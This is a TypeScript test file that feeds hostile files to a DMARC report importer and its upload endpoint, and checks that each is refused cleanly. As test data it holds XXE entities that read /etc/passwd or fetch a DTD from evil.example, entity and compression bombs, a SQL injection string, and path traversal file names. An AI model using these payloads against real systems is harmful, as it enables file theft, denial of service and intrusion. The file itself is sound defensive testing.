import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDispatch, type Dispatch } from '../../../src-main/app/dispatch';
import { createHandlers } from '../../../src-main/app/handlers';
import { runCli } from '../../../src-main/cli/main';
import { importReports } from '../../../src-main/dmarc/import';
import { billionLaughs, emlMessage, gzipBomb, zipArchive, zipBomb } from '../../support/dmarc/archives';
import { gzip, reportXml } from '../../support/dmarc/report-builder';
import { tempDir, tempServices } from '../../support/temp';
import { dumpLedger } from '../../hardening/ledger-dump';
import { expectEnvelope } from '../../hardening/envelope';
import { HOSTILE_DOMAINS, NON_UTF8 } from '../../hardening/hostile-values';

/**
 * Issue #10 item 1, DMARC report import: hostile files through the importer the CLI and the console share,
 * `behalf dmarc import`, and the console's upload method. Each file gets a stable code and a sentence, the
 * process keeps its memory, and a refused report leaves no row behind.
 */
const GB = 1024 * 1024 * 1024;
const good = (id: string, domain = 'acme.example') =>
  reportXml({ reportId: id, domain, begin: '2025-03-01', rows: [{ ip: '198.51.100.10', count: 3, dkim: 'pass', spf: 'pass' }] });

describe('hostile DMARC report files', () => {
  let s: ReturnType<typeof tempServices>;
  let dispatch: Dispatch;
  let cases = 0;
  const dir = tempDir('behalf-hostile-reports-');
  const file = (name: string, data: string | Buffer) => {
    const p = path.join(dir, name);
    fs.mkdirSync(path.dirname(p), { recursive: true });
    fs.writeFileSync(p, data);
    return p;
  };

  beforeAll(() => {
    s = tempServices();
    dispatch = createDispatch(createHandlers(s));
  });
  afterAll(() => {
    console.log(`hostile inputs: ${cases} cases at the report import`);
    s?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** Imports one path; expects exactly `codes` (in order) and no new rows at all. */
  async function refused(p: string, codes: string[] | RegExp, label: string) {
    cases++;
    const before = dumpLedger(s.db);
    const r = await importReports(s.db, [p]);
    expect(r.imported, label).toBe(0);
    const got = r.errors.map((e) => e.code);
    if (Array.isArray(codes)) expect(got, `${label}: ${JSON.stringify(r.errors)}`).toEqual(codes);
    else for (const c of got) expect(c, `${label}: ${JSON.stringify(r.errors)}`).toMatch(codes);
    expect(got.length, label).toBeGreaterThan(0);
    for (const e of r.errors) {
      expect(e.code, label).not.toBe('dmarc.internal');
      expect(e.message.length, label).toBeGreaterThan(5);
    }
    expect(dumpLedger(s.db), `${label}: refused but rows were written`).toBe(before);
    return r;
  }

  it('entity bombs, DOCTYPE and external entities are refused before expansion', async () => {
    await refused(file('laughs.xml', billionLaughs()), ['dmarc.dtd-forbidden'], 'billion laughs');
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>`;
    await refused(file('xxe.xml', xxe), ['dmarc.dtd-forbidden'], 'external entity');
    await refused(
      file('xxe-param.xml', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><feedback/>`),
      ['dmarc.dtd-forbidden'],
      'parameter entity',
    );
    await refused(
      file('doctype-public.xml', `<?xml version="1.0"?><!DOCTYPE feedback PUBLIC "-//X//EN" "http://evil.example/f.dtd"><feedback/>`),
      ['dmarc.dtd-forbidden'],
      'public DTD',
    );
    await refused(file('laughs.xml.gz', gzip(billionLaughs())), ['dmarc.dtd-forbidden'], 'billion laughs gzipped');
    await refused(file('laughs.zip', zipArchive([{ name: 'a.xml', data: billionLaughs() }])), ['dmarc.dtd-forbidden'], 'billion laughs zipped');
    await refused(
      file('undeclared-entity.xml', good('U').replace('google.com', '&undeclared;')),
      /^dmarc\.(malformed-xml|not-a-report|invalid-report)$/,
      'undeclared entity',
    );
  });

  it('compression bombs, truncated and corrupt archives', async () => {
    await refused(file('bomb.xml.gz', gzipBomb(64)), ['dmarc.bomb'], 'gzip bomb');
    await refused(file('bomb.zip', zipBomb(64)), ['dmarc.bomb'], 'zip bomb (honest sizes)');
    await refused(file('lying.zip', zipBomb(64, { lieAboutSize: true })), /^dmarc\.(bomb|corrupt-archive)$/, 'zip bomb (lying sizes)');
    const whole = gzip(good('T'));
    await refused(file('truncated.xml.gz', whole.subarray(0, Math.floor(whole.length / 2))), ['dmarc.truncated'], 'truncated gzip');
    await refused(file('header-only.xml.gz', whole.subarray(0, 10)), /^dmarc\.(truncated|corrupt-archive)$/, 'gzip header only');
    const flipped = Buffer.from(whole);
    flipped[flipped.length - 6]! ^= 0xff; // CRC
    await refused(file('bad-crc.xml.gz', flipped), /^dmarc\.(corrupt-archive|truncated)$/, 'gzip with a bad CRC');
    const zip = zipArchive([{ name: 'r.xml', data: good('Z') }]);
    await refused(file('cut.zip', zip.subarray(0, zip.length - 30)), /^dmarc\.(truncated|corrupt-archive)$/, 'zip cut short');
    await refused(
      file('many.zip', zipArchive(Array.from({ length: 150 }, (_, i) => ({ name: `r${i}.xml`, data: good(`M${i}`) })))),
      ['dmarc.too-many-entries'],
      'zip with 150 entries',
    );
    await refused(file('nested.zip', zipArchive([{ name: 'inner.zip', data: zipBomb(8) }])), /^dmarc\./, 'zip inside a zip');
    await refused(
      file('gz-of-garbage.xml.gz', zlib.gzipSync(Buffer.from([0, 1, 2, 3, 0xff]))),
      /^dmarc\.(malformed-xml|not-a-report)$/,
      'gzip of binary garbage',
    );
    await refused(file('empty.xml', ''), /^dmarc\./, 'empty .xml');
    await refused(file('empty.xml.gz', Buffer.alloc(0)), /^dmarc\./, 'empty .xml.gz');
    await refused(file('empty.zip', Buffer.alloc(0)), /^dmarc\./, 'empty .zip');
    // Content is sniffed, not the name: a plain report saved as .gz imports (whole), which is what people want.
    cases++;
    expect(await importReports(s.db, [file('not-gzip.xml.gz', good('NG'))])).toMatchObject({ imported: 1, errors: [] });
    await refused(
      file('bomb.eml', emlMessage([{ filename: 'b.xml.gz', contentType: 'application/gzip', data: gzipBomb(64) }])),
      ['dmarc.bomb'],
      'e-mail with a gzip bomb',
    );
  }, 120_000);

  it('non-UTF-8 bytes and hostile values inside a report', async () => {
    // Issue #14: receivers do send stray bytes; they are read as U+FFFD with a note, never stored raw. What is then
    // still not XML (the NUL of a UTF-16 "a") is refused as before.
    for (const { label, bytes } of NON_UTF8) {
      cases++;
      const xml = Buffer.concat([
        Buffer.from(good(`NU-${label}`).split('google.com')[0]!),
        bytes,
        Buffer.from(good(`NU-${label}`).split('google.com').slice(1).join('google.com')),
      ]);
      const r = await importReports(s.db, [file(`nonutf8-${cases}.xml`, xml)]);
      if (bytes.includes(0)) {
        expect(
          r.errors.map((e) => e.code),
          label,
        ).toEqual(['dmarc.malformed-xml']);
        continue;
      }
      expect(r.imported, label).toBe(1);
      expect(
        r.repaired.map((n) => n.code),
        label,
      ).toContain('dmarc.repair.not-utf8');
      const { org } = s.db.prepare('SELECT org FROM dmarc_reports WHERE report_id = ?').get(`NU-${label}`) as { org: string };
      expect(org, label).toContain('\uFFFD');
    }
    await refused(file('nul.xml', good('NUL').replace('google.com', 'goo\u0000gle.com')), ['dmarc.malformed-xml'], 'NUL in a text node');
    await refused(
      file('utf16.xml', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(good('U16'), 'utf16le')])),
      /^dmarc\./,
      'UTF-16 without a declaration',
    );
    const invalid: [string, string][] = [
      ['negative count', good('NEG').replace('<count>3</count>', '<count>-3</count>')],
      ['huge count', good('HUGE').replace('<count>3</count>', '<count>1e400</count>')],
      ['NaN count', good('NAN').replace('<count>3</count>', '<count>NaN</count>')],
      ['bad IP', good('IP').replace('198.51.100.10', "1.2.3.4'; DROP TABLE dmarc_rows;--")],
      ['end before begin', good('EB').replace(/<end>\d+<\/end>/, '<end>1</end>')],
      ['not a feedback root', '<?xml version="1.0"?><html><body>hi</body></html>'],
      ['unclosed root', good('UC').replace('</feedback>', '')],
      ['two roots', good('R1') + good('R2').replace(/<\?xml[^>]*>/, '')],
      ['10 MB text node', good('BIG').replace('google.com', 'x'.repeat(10 * 1024 * 1024))],
    ];
    for (const [label, xml] of invalid)
      await refused(file(`invalid-${cases}.xml`, xml), /^dmarc\.(invalid-report|malformed-xml|not-a-report|too-large|truncated)$/, label);
    // Hostile policy domains: refused or stored in the normalised form, never as given.
    for (const { label, value } of HOSTILE_DOMAINS) {
      cases++;
      const before = dumpLedger(s.db);
      const r = await importReports(s.db, [file(`domain-${cases}.xml`, good(`D-${cases}`, value.replace(/[<&]/g, '')))]);
      if (r.imported === 0) {
        expect(
          r.errors.map((e) => e.code),
          label,
        ).not.toContain('dmarc.internal');
        expect(dumpLedger(s.db), label).toBe(before);
      } else {
        const stored = (s.db.prepare(`SELECT domain FROM dmarc_reports ORDER BY rowid DESC LIMIT 1`).get() as { domain: string }).domain;
        expect(stored, label).toMatch(/^[\p{L}\p{N}_.-]{1,253}$/u);
      }
    }
  });

  it('a folder, a symlink loop, a folder loop, a device and a missing path', async () => {
    fs.mkdirSync(path.join(dir, 'folder.xml'));
    await refused(path.join(dir, 'folder.xml'), ['dmarc.no-report-files'], 'a folder named .xml');
    const loop = path.join(dir, 'loop.xml');
    fs.symlinkSync(loop, loop);
    await refused(loop, /^dmarc\.(file-not-found|unreadable)$/, 'symlink to itself');
    const a = path.join(dir, 'ping.xml');
    const b = path.join(dir, 'pong.xml');
    fs.symlinkSync(b, a);
    fs.symlinkSync(a, b);
    await refused(a, /^dmarc\.(file-not-found|unreadable)$/, 'symlink ping-pong');
    const tree = path.join(dir, 'tree');
    fs.mkdirSync(tree);
    fs.symlinkSync(tree, path.join(tree, 'again'));
    fs.symlinkSync(tree, path.join(tree, 'again.xml'));
    await refused(tree, ['dmarc.no-report-files'], 'folder holding a link to itself');
    await refused('/dev/zero', ['dmarc.unsupported-file'], '/dev/zero');
    await refused(path.join(dir, 'missing.xml'), ['dmarc.file-not-found'], 'missing');
    if (fs.existsSync('/dev/stdin')) await refused('/dev/null', ['dmarc.unsupported-file'], '/dev/null');
  });

  it('a 1 GB sparse file of zeros (.xml, .xml.gz, and after a valid header) is refused with bounded memory', async () => {
    const rssBefore = process.memoryUsage().rss;
    const sparse = (name: string, head?: string) => {
      const p = path.join(dir, name);
      fs.writeFileSync(p, head ?? '');
      fs.truncateSync(p, GB);
      return p;
    };
    await refused(sparse('zeros.xml'), ['dmarc.malformed-xml'], '1 GB of zeros (.xml)');
    // Not gzip magic: the importer sniffs content, not the name, so this one is judged as XML.
    await refused(sparse('zeros.xml.gz'), /^dmarc\.(corrupt-archive|truncated|malformed-xml)$/, '1 GB of zeros (.xml.gz)');
    await refused(sparse('zeros.zip'), /^dmarc\.(corrupt-archive|truncated|malformed-xml)$/, '1 GB of zeros (.zip)');
    await refused(sparse('header-then-zeros.xml', good('HZ').replace('</feedback>', '')), ['dmarc.malformed-xml'], '1 GB: valid start then zeros');
    // And the CLI says so in a sentence, exit 1.
    const err: string[] = [];
    cases++;
    const code = await runCli(['dmarc', 'import', path.join(dir, 'zeros.xml'), '--home', tempDir()], { out: () => {}, err: (t) => err.push(t) }, {});
    expect(code).toBe(1);
    expect(err.join('\n')).toMatch(/zeros\.xml: .+\[dmarc\.malformed-xml\]/);
    const growth = process.memoryUsage().rss - rssBefore;
    expect(growth, `rss grew by ${Math.round(growth / 1048576)} MB`).toBeLessThan(200 * 1024 * 1024);
    for (const f of ['zeros.xml', 'zeros.xml.gz', 'zeros.zip', 'header-then-zeros.xml']) fs.rmSync(path.join(dir, f));
  }, 300_000);

  it('the console upload door: hostile names and bytes, every reply an envelope', async () => {
    const uploads = [
      { name: '../../../../etc/cron.d/evil.xml', base64: Buffer.from(good('UP1')).toString('base64') },
      { name: 'nul\u0000.xml', base64: Buffer.from(billionLaughs()).toString('base64') },
      { name: 'x'.repeat(255), base64: 'AAAA' },
      { name: '..', base64: 'not base64 at all!!!' },
      { name: 'bomb.xml.gz', base64: gzipBomb(16).toString('base64') },
      { name: 'C:\\Windows\\win.ini.xml', base64: Buffer.from([0xff, 0xfe, 0x00]).toString('base64') },
    ];
    cases += uploads.length;
    const started = expectEnvelope(await dispatch('dmarc.importFiles', { files: uploads }), 'importFiles');
    expect(started.ok).toBe(true);
    const taskId = (started as { value: { taskId: string } }).value.taskId;
    let result: { state: string; imported: number; errors: { file: string; code: string }[] } | undefined;
    for (let i = 0; i < 600; i++) {
      const r = expectEnvelope(await dispatch('dmarc.importResult', { taskId }), 'importResult');
      expect(r.ok).toBe(true);
      result = (r as { value: typeof result }).value;
      if (result!.state !== 'running') break;
      await new Promise((res) => setTimeout(res, 50));
    }
    expect(result!.state).toBe('done');
    // The one real report is imported once, under its sanitised temp name; nothing was written outside.
    expect(result!.imported).toBe(1);
    expect(fs.existsSync('/etc/cron.d/evil.xml')).toBe(false);
    expect(result!.errors.map((e) => e.code)).not.toContain('dmarc.internal');
    expect(result!.errors.length).toBe(5);
    for (const bad of [
      { files: [] },
      { files: [{ name: '', base64: '' }] },
      { files: 'x' },
      { files: Array.from({ length: 501 }, () => ({ name: 'a.xml', base64: '' })) },
      { files: [{ name: 'y'.repeat(256), base64: '' }] },
    ]) {
      cases++;
      expect(expectEnvelope(await dispatch('dmarc.importFiles', bad), 'bad importFiles').ok).toBe(false);
    }
  }, 120_000);
});
